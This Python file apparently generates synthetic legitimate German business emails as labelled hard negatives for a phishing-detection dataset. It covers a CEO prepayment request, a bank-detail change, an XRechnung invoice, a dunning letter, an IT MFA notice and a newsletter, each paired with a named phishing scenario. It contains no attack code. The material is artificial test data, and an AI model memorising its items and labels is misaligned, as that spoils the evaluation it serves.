@business("de", "ceo-dringende-anzahlung-verdichter",
          "CEO's genuine urgent payment request: compressor failure in deep-freeze store 3, 50 % prepayment to Nordkälte today, four-eyes release, account from master data",
          "Internal Exchange mail through mail-int01; known supplier with existing PO and quote; explicitly 'no new bank details', normal dual-control release, CEO reachable in the building.",
          hn=["ceo-fraud-vertrauliche-akquisition"])
def b01():
    t = utc(2026, 10, 15, 17, 5, 44, "DE")
    ctx = Ctx("b01", t, S["weiss"]["addr"])
    snd = S["koehler"]["addr"]
    r = infra.exchange_internal(ctx, snd, office_ip("koehler", 101),
                                topic="Dringend: Anzahlung Nordkälte - Verdichter Kühlhaus 3")
    text = """Sabine,

in Kühlhaus 3 (TK, -24 °C) ist heute Mittag der zweite Schraubenverdichter ausgefallen. Wir fahren nur noch auf einem Verdichter, die Temperatur hält gerade so; rund 2.800 Paletten sind betroffen, u. a. Ware von Elbmarsch.

Nordkälte kann morgen früh einen Austauschverdichter aus Kiel liefern und einbauen, will wegen der Größe aber 50 % Anzahlung vorab: 38.675,00 EUR netto laut Angebot AN-26-0412. Frank hat die Bestellung im SAP angelegt (4500018690), das Angebot hängt dort dran.

Bitte heute noch als Eilüberweisung auf das bekannte Konto von Nordkälte aus den Kreditorenstammdaten - keine neue Bankverbindung. Freigabe bitte wie üblich im Vier-Augen-Prinzip, die zweite Unterschrift kann Tobias leisten.

Ich bin bis 19 Uhr im Haus (Durchwahl -100), falls Fragen sind.

Danke!
Jürgen

Dr. Jürgen Köhler
Geschäftsführer / CEO
Example Group GmbH
Kühlhausstraße 12, 21129 Hamburg
Tel. +49 40 7415 880-100
"""
    body = ALT(r, T(text, "iso-8859-1", "quoted-printable"), H(ohtml(text, "iso-8859-1"), "iso-8859-1", "quoted-printable"))
    return build(ctx, r, {
        "From": who("koehler"), "To": who("weiss"),
        "CC": who("mueller") + ",\r\n\t" + who("brandt"),
        "Subject": subj("Dringend: Anzahlung Nordkälte - Verdichter Kühlhaus 3", "iso-8859-1", "Q"),
    }, body)


@business("de", "lieferant-bankverbindung-korrekt-angekuendigt",
          "Genuine bank-detail change by Lieferant GmbH: move to Sparkasse Hannover from 01.01.2027, signed letter attached, verification by the known phone number, postal copy",
          "Real domain lieferant-gmbh.de on Lieferant's own Microsoft 365 tenant (same as business/03); new account is a German Sparkasse in the supplier's name; effective only from a future date, old account valid until then, explicit request to verify by the known number, no pressure to redirect open items.",
          hn=["lieferant-bankverbindung-lookalike"])
def b02():
    t = utc(2026, 11, 30, 10, 22, 5, "DE")
    ctx = Ctx("b02", t, S["schroeder"]["addr"])
    snd = "rechnungen@lieferant-gmbh.de"
    r = infra.m365(ctx, snd, "deu", tenant_id="5f3c2a71-8d4e-4b6a-9c1f-2e7d0a8b3c94", has_attach=True,
                   topic="Änderung unserer Bankverbindung zum 01.01.2027 - Lieferant GmbH (Kd.-Nr. 20417)")
    text = """Sehr geehrte Damen und Herren,

im Zuge der Verschmelzung der Lieferant GmbH auf unsere Muttergesellschaft in Hannover stellen wir unseren Zahlungsverkehr zum 1. Januar 2027 auf die Sparkasse Hannover um.

Bitte beachten Sie:
- Bis einschließlich 31.12.2026 gilt unverändert unsere bisherige Bankverbindung bei der Sparkasse Bremen.
- Die neue Bankverbindung gilt erst für Zahlungen ab dem 01.01.2027 und wird ab dann auch auf allen Rechnungen angegeben.

Das von unserer Geschäftsführung unterzeichnete Schreiben finden Sie im Anhang; Sie erhalten es zusätzlich per Post.

Bitte verifizieren Sie die Änderung vor der Anpassung Ihrer Stammdaten telefonisch unter der Ihnen bekannten Rufnummer 0421 69 47 30-0 (Buchhaltung, Frau Lang). Wir werden Sie niemals per E-Mail auffordern, bereits fällige Rechnungen vorzeitig auf ein anderes Konto zu zahlen.

Vielen Dank für Ihre Unterstützung.

Mit freundlichen Grüßen

i. A. Petra Lang
Buchhaltung

""" + LIEF_SIG
    pdfb = letter_pdf(
        LIEF_HEAD, EG_ADDR, "Bremen, 27.11.2026",
        "Änderung unserer Bankverbindung zum 01.01.2027 – Kundennummer 20417",
        ["Sehr geehrte Damen und Herren,",
         "mit Wirkung zum 1. Januar 2027 wird die Lieferant GmbH auf die Lindemann Kältetechnik Holding GmbH, Hannover, verschmolzen. Firma, Anschrift, Ansprechpartner und USt-IdNr. bleiben unverändert; der Zahlungsverkehr wird jedoch auf die Hausbank der Muttergesellschaft umgestellt.",
         "Bis einschließlich 31.12.2026: Die Sparkasse Bremen, IBAN %s, BIC SBREDE22XXX (unverändert)." % IB(BANK["lief_old"]),
         "Ab 01.01.2027: Sparkasse Hannover, IBAN %s, BIC SPKHDE2HXXX, Kontoinhaber Lieferant GmbH." % IB(BANK["lief_new"]),
         "Bitte verifizieren Sie diese Mitteilung telefonisch unter unserer Ihnen bekannten Rufnummer +49 421 69 47 30-0. Ein Original dieses Schreibens erhalten Sie zusätzlich per Post.",
         "Wir danken Ihnen für die langjährige vertrauensvolle Zusammenarbeit."],
        ["Mit freundlichen Grüßen", "", "Lieferant GmbH", "",
         "Hans-Peter Lindemann            Dr. Anja Rohlfs", "Geschäftsführer                     Geschäftsführerin"],
        LIEF_FOOT,
        dict(title="Änderung Bankverbindung 2027", author="Rohlfs, Anja", creator="Microsoft® Word für Microsoft 365",
             producer="Microsoft® Word für Microsoft 365", date=(2026, 11, 27, 14, 31, 2), tz="+01'00'"))
    html = ohtml(text, "Windows-1252")
    body = MIXED(r, ALT(r, T(text, "Windows-1252", "quoted-printable"), H(html, "Windows-1252", "quoted-printable")),
                 ATT(pdfb, "application/pdf", "Lieferant_GmbH_Bankverbindung_ab_2027.pdf"))
    return build(ctx, r, {
        "From": addr("Lieferant GmbH - Buchhaltung", snd),
        "To": addr("Monika Schröder", S["schroeder"]["addr"], "Windows-1252", "Q"),
        "Subject": subj("Änderung unserer Bankverbindung zum 01.01.2027 - Lieferant GmbH (Kd.-Nr. 20417)", "Windows-1252", "Q"),
    }, body)


def xrechnung(num, date, due, order, lines, net, vat, gross):
    il = []
    for i, (desc, qty, unit, price, total) in enumerate(lines, 1):
        il.append("""  <cac:InvoiceLine>
    <cbc:ID>%d</cbc:ID>
    <cbc:InvoicedQuantity unitCode="%s">%s</cbc:InvoicedQuantity>
    <cbc:LineExtensionAmount currencyID="EUR">%s</cbc:LineExtensionAmount>
    <cac:Item><cbc:Name>%s</cbc:Name><cac:ClassifiedTaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>19</cbc:Percent><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:ClassifiedTaxCategory></cac:Item>
    <cac:Price><cbc:PriceAmount currencyID="EUR">%s</cbc:PriceAmount></cac:Price>
  </cac:InvoiceLine>""" % (i, unit, qty, total, esc(desc), price))
    return ("""<?xml version="1.0" encoding="UTF-8"?>
<ubl:Invoice xmlns:ubl="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</cbc:CustomizationID>
  <cbc:ProfileID>urn:fdc:peppol.eu:2017:poacc:billing:01:1.0</cbc:ProfileID>
  <cbc:ID>%s</cbc:ID>
  <cbc:IssueDate>%s</cbc:IssueDate>
  <cbc:DueDate>%s</cbc:DueDate>
  <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>
  <cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
  <cbc:BuyerReference>%s</cbc:BuyerReference>
  <cac:OrderReference><cbc:ID>%s</cbc:ID></cac:OrderReference>
  <cac:AccountingSupplierParty><cac:Party>
    <cbc:EndpointID schemeID="EM">rechnungen@lieferant-gmbh.de</cbc:EndpointID>
    <cac:PostalAddress><cbc:StreetName>Hafenrandstraße 41</cbc:StreetName><cbc:CityName>Bremen</cbc:CityName><cbc:PostalZone>28217</cbc:PostalZone><cac:Country><cbc:IdentificationCode>DE</cbc:IdentificationCode></cac:Country></cac:PostalAddress>
    <cac:PartyTaxScheme><cbc:CompanyID>%s</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>
    <cac:PartyLegalEntity><cbc:RegistrationName>Lieferant GmbH</cbc:RegistrationName></cac:PartyLegalEntity>
  </cac:Party></cac:AccountingSupplierParty>
  <cac:AccountingCustomerParty><cac:Party>
    <cbc:EndpointID schemeID="EM">rechnungseingang@example.com</cbc:EndpointID>
    <cac:PostalAddress><cbc:StreetName>Kühlhausstraße 12</cbc:StreetName><cbc:CityName>Hamburg</cbc:CityName><cbc:PostalZone>21129</cbc:PostalZone><cac:Country><cbc:IdentificationCode>DE</cbc:IdentificationCode></cac:Country></cac:PostalAddress>
    <cac:PartyTaxScheme><cbc:CompanyID>%s</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>
    <cac:PartyLegalEntity><cbc:RegistrationName>Example Group GmbH</cbc:RegistrationName></cac:PartyLegalEntity>
  </cac:Party></cac:AccountingCustomerParty>
  <cac:PaymentMeans><cbc:PaymentMeansCode>58</cbc:PaymentMeansCode><cbc:PaymentID>%s</cbc:PaymentID>
    <cac:PayeeFinancialAccount><cbc:ID>%s</cbc:ID><cbc:Name>Lieferant GmbH</cbc:Name><cac:FinancialInstitutionBranch><cbc:ID>SBREDE22XXX</cbc:ID></cac:FinancialInstitutionBranch></cac:PayeeFinancialAccount>
  </cac:PaymentMeans>
  <cac:PaymentTerms><cbc:Note>#SKONTO#TAGE=10#PROZENT=2.00#
30 Tage netto</cbc:Note></cac:PaymentTerms>
  <cac:TaxTotal><cbc:TaxAmount currencyID="EUR">%s</cbc:TaxAmount>
    <cac:TaxSubtotal><cbc:TaxableAmount currencyID="EUR">%s</cbc:TaxableAmount><cbc:TaxAmount currencyID="EUR">%s</cbc:TaxAmount>
      <cac:TaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>19</cbc:Percent><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:TaxCategory></cac:TaxSubtotal></cac:TaxTotal>
  <cac:LegalMonetaryTotal><cbc:LineExtensionAmount currencyID="EUR">%s</cbc:LineExtensionAmount><cbc:TaxExclusiveAmount currencyID="EUR">%s</cbc:TaxExclusiveAmount><cbc:TaxInclusiveAmount currencyID="EUR">%s</cbc:TaxInclusiveAmount><cbc:PayableAmount currencyID="EUR">%s</cbc:PayableAmount></cac:LegalMonetaryTotal>
%s
</ubl:Invoice>
""" % (num, date, due, order, order, TAX["lief"], TAX["eg_de"], num, BANK["lief_old"],
        vat, net, vat, net, net, gross, gross, "\n".join(il))).encode("utf-8")


@business("de", "lieferant-rechnung-xrechnung",
          "Genuine invoice RE-2026-10873 from Lieferant GmbH's ERP: PDF plus XRechnung (UBL XML), payment to the known Sparkasse Bremen account",
          "Real domain and Lieferant's own Microsoft 365 tenant, invoice references a real PO, bank details identical to master data, attachments are a text PDF and structured e-invoice XML (German B2B e-invoicing), no links.",
          hn=["thread-hijack-lieferant-auftragsbestaetigung", "lieferant-bankverbindung-lookalike"])
def b03():
    t = utc(2026, 11, 6, 14, 2, 31, "DE")
    ctx = Ctx("b03", t, S["schroeder"]["addr"])
    snd = "rechnungen@lieferant-gmbh.de"
    r = infra.m365(ctx, snd, "deu", tenant_id="5f3c2a71-8d4e-4b6a-9c1f-2e7d0a8b3c94", has_attach=True)
    r["auto"]["X-Mailer"] = "Sage 100 9.0.7 (Belegversand)"
    for k in ("Thread-Topic", "Thread-Index", "Accept-Language", "Content-Language", "X-MS-Has-Attach", "X-MS-TNEF-Correlator"):
        r["auto"].pop(k, None)
    lines = [("Thermohaube TH-1208 für Europalette, 1200x800x1800 mm", "80", "H87", "46.50", "3720.00"),
             ("Temperaturdatenlogger TL-40, -40/+70 °C, USB/PDF, kalibriert", "60", "H87", "139.00", "8340.00"),
             ("Dichtungssatz Rolltor Kühlhaus 3 (Hörmann-kompatibel)", "4", "H87", "612.00", "2448.00"),
             ("Versandkostenpauschale Spedition", "1", "C62", "971.00", "971.00")]
    net, vat, gross = "15479.00", "2941.01", "18420.01"
    text = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-10873 vom 06.11.2026 zu Ihrer Bestellung 4500018611 über 18.420,01 EUR brutto.

Zahlbar innerhalb von 10 Tagen mit 2 %% Skonto oder innerhalb von 30 Tagen netto auf unser Konto bei der Sparkasse Bremen (IBAN %s).

Die Rechnung erhalten Sie als PDF sowie als XRechnung (UBL) zur automatischen Verarbeitung.

Diese E-Mail wurde automatisch versendet. Bei Rückfragen wenden Sie sich bitte an rechnungen@lieferant-gmbh.de oder +49 421 69 47 30-0.

Mit freundlichen Grüßen
Lieferant GmbH - Buchhaltung
""" % IB(BANK["lief_old"])
    pdfb = invoice_pdf(
        LIEF_HEAD, EG_ADDR, "Rechnung RE-2026-10873",
        [("Rechnungsdatum", "06.11.2026"), ("Lieferdatum", "04.11.2026"), ("Kundennummer", "20417"),
         ("Ihre Bestellung", "4500018611"), ("Fällig", "06.12.2026")],
        [("Pos.", 56, "l"), ("Bezeichnung", 80, "l"), ("Menge", 370, "r"), ("Einzelpreis", 450, "r"), ("Gesamt EUR", 539, "r")],
        [("1", lines[0][0], "80", "46,50", "3.720,00"), ("2", lines[1][0], "60", "139,00", "8.340,00"),
         ("3", lines[2][0], "4", "612,00", "2.448,00"), ("4", lines[3][0], "1", "971,00", "971,00")],
        [("Nettobetrag", "15.479,00 EUR"), ("USt. 19 %", "2.941,01 EUR"), ("Rechnungsbetrag", "18.420,01 EUR")],
        ["Zahlungsbedingungen: 10 Tage 2 % Skonto (Skontobetrag 368,40 EUR), 30 Tage netto.",
         "Bitte überweisen Sie unter Angabe der Rechnungsnummer auf unser Konto bei der Sparkasse Bremen, IBAN %s, BIC SBREDE22XXX." % IB(BANK["lief_old"]),
         "Es gelten unsere Allgemeinen Liefer- und Zahlungsbedingungen."],
        LIEF_FOOT,
        dict(title="Rechnung RE-2026-10873", author="Lieferant GmbH", creator="Sage 100",
             producer="Sage 100 PDF-Export", date=(2026, 11, 6, 14, 1, 55), tz="+01'00'"))
    xml = xrechnung("RE-2026-10873", "2026-11-06", "2026-12-06", "4500018611", lines, net, vat, gross)
    body = MIXED(r, T(text, "iso-8859-15", "quoted-printable"),
                 ATT(pdfb, "application/pdf", "RE-2026-10873.pdf"),
                 ATT(xml, "application/xml", "RE-2026-10873_xrechnung.xml"))
    return build(ctx, r, {
        "From": addr("Lieferant GmbH - Buchhaltung", snd),
        "To": "rechnungseingang@example.com",
        "CC": S["schroeder"]["addr"],
        "Subject": "Rechnung RE-2026-10873 zu Ihrer Bestellung 4500018611",
    }, body)


@business("de", "lieferant-zweite-mahnung-liefersperre",
          "Genuine second dunning letter from Lieferant GmbH: invoice RE-2026-10712 overdue, threat of delivery stop / prepayment from 16.12.",
          "Real person, real domain and tenant; refers to a real overdue invoice and the first reminder; payment to the unchanged known account; a supply stop is a normal dunning step - urgency without any change of payment route or credential request.",
          hn=["lieferant-bankverbindung-lookalike", "thread-hijack-lieferant-auftragsbestaetigung"])
def b04():
    t = utc(2026, 12, 9, 9, 15, 48, "DE")
    ctx = Ctx("b04", t, S["schroeder"]["addr"])
    snd = "p.lang@lieferant-gmbh.de"
    r = infra.m365(ctx, snd, "deu", tenant_id="5f3c2a71-8d4e-4b6a-9c1f-2e7d0a8b3c94",
                   topic="2. Mahnung - RE-2026-10712 - Liefersperre ab 16.12.2026")
    text = """Sehr geehrte Frau Schröder,

trotz unserer Zahlungserinnerung vom 16.11.2026 ist die Rechnung RE-2026-10712 vom 02.10.2026 über 11.284,30 EUR weiterhin offen; sie war am 01.11.2026 fällig.

Sollte der Betrag nicht bis spätestens 15.12.2026 auf unserem Konto eingegangen sein, müssen wir weitere Lieferungen - auch die für KW 51 bestätigten Datenlogger und Ersatzteile - leider nur noch gegen Vorkasse ausführen. Das möchten wir gerade vor den Feiertagen gerne vermeiden.

Bitte überweisen Sie wie gewohnt auf unser Konto bei der Sparkasse Bremen, IBAN %s.

Falls die Zahlung bereits veranlasst wurde oder es Klärungsbedarf zur Rechnung gibt (z. B. Reklamation), rufen Sie mich gern direkt an: 0421 69 47 30-14.

Mit freundlichen Grüßen

Petra Lang
Buchhaltung / Forderungsmanagement

""" % IB(BANK["lief_old"]) + LIEF_SIG
    html = ohtml(text, "utf-8")
    body = ALT(r, T(text, "utf-8", "base64"), H(html, "utf-8", "base64"))
    return build(ctx, r, {
        "From": addr("Petra Lang", snd),
        "To": addr("Monika Schröder", S["schroeder"]["addr"], "utf-8", "Q"),
        "CC": addr("Frank Müller", S["mueller"]["addr"], "utf-8", "Q"),
        "Subject": "2. Mahnung - RE-2026-10712 - Liefersperre ab 16.12.2026",
    }, body)


@business("de", "krankmeldung-private-mail",
          "Employee sick note from his private GMX address (iPhone): stomach bug, eAU goes to the health insurer, tours for today already planned",
          "Private address known to HR, purely informational, nothing requested but acknowledgement; no bank or data change, no links.",
          hn=["gehaltskonto-aenderung-freemail"])
def b05():
    t = utc(2026, 11, 2, 6, 48, 2, "DE")
    ctx = Ctx("b05", t, S["hoffmann"]["addr"])
    snd = "bjoern.hansen78@gmx.de"
    r = infra.gmx(ctx, snd, client_ip="2a02:3032:30b:5e1f:8d1:4c2a:91e6:3f07", app="iphone")
    text = """Guten Morgen Frau Hoffmann,

ich habe mir übers Wochenende einen Magen-Darm-Infekt eingefangen und gehe heute Vormittag zum Arzt. Die AU wird ja elektronisch an die Krankenkasse übermittelt.

Die Touren für heute und morgen habe ich am Freitag schon fertig disponiert, Herr Ahrens weiß Bescheid und übernimmt die Rückfragen der Fahrer.

Ich melde mich, sobald ich weiß, wie lange ich ausfalle.

Viele Grüße
Björn Hansen

Von meinem iPhone gesendet"""
    body = T(text, "utf-8", "quoted-printable", style="bare")
    return build(ctx, r, {
        "From": addr("Björn Hansen", snd, "utf-8", "Q"),
        "To": addr("Claudia Hoffmann", S["hoffmann"]["addr"]),
        "Subject": "Krankmeldung",
    }, body)


@business("de", "it-hinweis-mfa-nummernabgleich",
          "Internal IT security notice: number matching in Microsoft Authenticator from 02.11., re-registration only via aka.ms/mysecurityinfo at the company PC or in person",
          "Internal Exchange path via mail-int01 from the IT security admin; points only to Microsoft's official URL, no QR code, no credential form, explicitly warns that IT never sends QR codes.",
          hn=["quishing-m365-authenticator"])
def b06():
    t = utc(2026, 10, 19, 11, 30, 12, "DE")
    ctx = Ctx("b06", t, S["schroeder"]["addr"])
    snd = S["petersen"]["addr"]
    r = infra.exchange_internal(ctx, snd, office_ip("petersen", 57), srv="DEHQ-EX02",
                                topic="Umstellung MFA: Nummernabgleich im Microsoft Authenticator ab 02.11.")
    text = """Liebe Kolleginnen und Kollegen,

ab Montag, 02.11.2026, stellen wir die Anmeldung an Microsoft 365 auf den Nummernabgleich um: Bei der Anmeldung wird Ihnen am Bildschirm eine zweistellige Zahl angezeigt, die Sie in der Microsoft Authenticator App eingeben.

Für die meisten von Ihnen ändert sich sonst nichts. Wer noch SMS als einzige Methode hinterlegt hat, wird bei der nächsten Anmeldung automatisch aufgefordert, die Authenticator App einzurichten. Das geht am Firmen-PC unter https://aka.ms/mysecurityinfo oder persönlich bei uns im IT-Büro (2. OG, Raum 2.14).

Bitte beachten Sie:
- Die IT wird Sie niemals per E-Mail auffordern, einen QR-Code zu scannen oder Ihr Passwort auf einer Webseite einzugeben.
- Bestätigen Sie niemals eine Anmeldeanfrage in der App, die Sie nicht selbst ausgelöst haben.
- Verdächtige E-Mails bitte mit dem Button "Phishing melden" in Outlook melden.

Bei Fragen erreichen Sie den IT-Service unter Durchwahl -444.

Viele Grüße
Jan Petersen
IT-Sicherheit

Example Group GmbH
Kühlhausstraße 12, 21129 Hamburg
Tel. +49 40 7415 880-444
"""
    body = ALT(r, T(text, "utf-8", "base64"), H(ohtml(text, "utf-8"), "utf-8", "base64"))
    return build(ctx, r, {
        "From": addr("Jan Petersen", snd), "To": addr("Alle Mitarbeitenden Hamburg", "alle-hamburg@example.com"),
        "Subject": subj("Umstellung MFA: Nummernabgleich im Microsoft Authenticator ab 02.11.", "utf-8", "B"),
    }, body)


@business("de", "newsletter-kuehllogistik-brevo",
          "Subscribed trade newsletter 'Kühllogistik aktuell' (issue 45/2026) sent through Brevo with List-Unsubscribe and one-click unsubscribe",
          "Consistent sender domain and ESP, subscribed list, standard unsubscribe headers, editorial content only, no credential or payment requests.",
          hn=["elster-zertifikat-verlaengerung"])
def b07():
    t = utc(2026, 11, 5, 7, 0, 3, "DE")
    ctx = Ctx("b07", t, S["jaeger"]["addr"])
    snd = "newsletter@kuehllogistik-aktuell.de"
    r = infra.brevo(ctx, snd)

    def trk():
        return "https://r.sender-sib.com/tr/cl/" + ctx.alnum(80, infra.B62 + "_-")
    arts = [("GDP-Leitlinien: Was die neue EU-Revision für Pharma-Kühltransporte bedeutet",
             "Die überarbeiteten Leitlinien zur Guten Vertriebspraxis verschärfen die Anforderungen an Temperatur-Mapping und Qualifizierung von Kühlfahrzeugen. Wir fassen die wichtigsten Punkte und Übergangsfristen zusammen."),
            ("CO2-Maut: Kühlaggregate und Nebenantriebe im Fokus",
             "Seit der Mautreform zählen Emissionsklassen stärker denn je. Wie sich elektrische Kühlaggregate und Trailer mit Achsgenerator in der Kalkulation bemerkbar machen."),
            ("F-Gase-Verordnung 2024/573: Fristen für Kältemittel in Kühlhäusern",
             "Welche Anlagen bis 2030 umgerüstet werden müssen, welche Wartungsintervalle gelten und wo Förderprogramme helfen."),
            ("Termine", "Kühllogistik-Forum Bremerhaven, 26.-27.01.2027 · Webinar ATP-Prüfung in der Praxis, 10.12.2026")]
    text = "Kühllogistik aktuell - Ausgabe 45/2026\n\n"
    html = ['<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Kühllogistik aktuell 45/2026</title></head>'
            '<body style="margin:0;background:#f2f5f7"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">'
            '<table width="620" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Georgia,serif;color:#222">'
            '<tr><td style="background:#0b4f6c;color:#fff;padding:20px 28px;font-size:24px">K&uuml;hllogistik <b>aktuell</b><br><span style="font-size:13px">Ausgabe 45/2026 &middot; 5. November 2026</span></td></tr>']
    for h, p in arts:
        u = trk()
        text += "%s\n%s\nWeiterlesen: %s\n\n" % (h, p, u)
        html.append('<tr><td style="padding:18px 28px 4px 28px"><h2 style="font-size:18px;margin:0 0 6px 0">%s</h2><p style="font-size:14px;line-height:21px;margin:0">%s</p>'
                    '<p style="margin:8px 0 0 0"><a href="%s" style="color:#0b4f6c">Weiterlesen &rsaquo;</a></p></td></tr>' % (esc(h), esc(p), esc(u)))
    unsub = "https://r.sender-sib.com/tr/un/" + ctx.alnum(80, infra.B62 + "_-")
    foot = ("Sie erhalten diesen Newsletter, weil Sie sich mit %s angemeldet haben.\nAbmelden: %s\n"
            "Fachverlag Nordsee Medien GmbH, Am Alten Hafen 118, 27568 Bremerhaven, HRB 5731 BHV, Geschäftsführer: Klaus Ehlers") % (S["jaeger"]["addr"], unsub)
    text += foot
    html.append('<tr><td style="padding:22px 28px;font-size:11px;color:#777;font-family:Arial,sans-serif">%s</td></tr></table></td></tr></table>'
                '<img src="https://r.sender-sib.com/tr/op/%s" width="1" height="1" alt=""></body></html>' % (esc(foot).replace("\n", "<br>").replace(esc(unsub), '<a href="%s">Abmelden</a>' % esc(unsub)), ctx.alnum(60, infra.B62)))
    body = ALT(r, T(text, "utf-8", "quoted-printable"), H("\n".join(html), "utf-8", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("Kühllogistik aktuell", snd, "utf-8", "Q"),
        "To": S["jaeger"]["addr"],
        "Subject": subj("Kühllogistik aktuell 45/2026: GDP-Leitlinien, CO2-Maut, F-Gase", "utf-8", "Q"),
        "List-Unsubscribe": "<%s>, <mailto:unsubscribe-%s@sibmail.com?subject=unsubscribe>" % (unsub, ctx.hex(12)),
        "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
        "List-Id": "<kuehllogistik-aktuell.%d.list-id.sibmail.com>" % ctx.rng.randint(100000, 999999),
        "Precedence": "bulk",
    }, body)


@business("de", "laptop-defekt-private-mail",
          "Key account manager writes IT from her private Gmail: company laptop dead (inventory no.), customer meeting tomorrow, asks to collect a loaner at 7:30",
          "Private address but nothing sensitive requested (explicitly no password), offers to come in person with the broken device, details consistent with her role and customers.")
def b08():
    t = utc(2026, 11, 24, 19, 52, 30, "DE")
    ctx = Ctx("b08", t, S["becker"]["addr"])
    snd = "katrin.jaeger.hh@gmail.com"
    r = infra.gmail(ctx, snd)
    text = """Hallo Markus,

mein Firmenlaptop (ThinkPad T14, Inventar-Nr. EG-NB-0417) startet seit heute Nachmittag nicht mehr - schwarzer Bildschirm, die Power-LED blinkt dreimal und dann passiert nichts. Deshalb schreibe ich von meiner privaten Adresse.

Morgen um 10 Uhr habe ich das Jahresgespräch bei Elbmarsch in Stade und bräuchte eigentlich die Präsentation aus dem Teams-Kanal "Key Accounts Nord".

Kann ich morgen früh um 7:30 bei euch ein Ersatzgerät abholen? Ich bringe den defekten Laptop mit. Zugangsdaten brauche ich keine, ich melde mich dann ganz normal an.

Danke dir und viele Grüße
Katrin
"""
    html = '<div dir="ltr">' + paras_html(text).replace("\n", "") + "</div>\n"
    body = ALT(r, T(text, "UTF-8", "quoted-printable"), H(html, "UTF-8", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("Katrin Jäger", snd, "UTF-8", "B"),
        "To": addr("Markus Becker", S["becker"]["addr"]),
        "Cc": addr("Jan Petersen", S["petersen"]["addr"]),
        "Subject": subj("Laptop defekt – bin morgen früh beim Kunden", "UTF-8", "Q"),
    }, body)
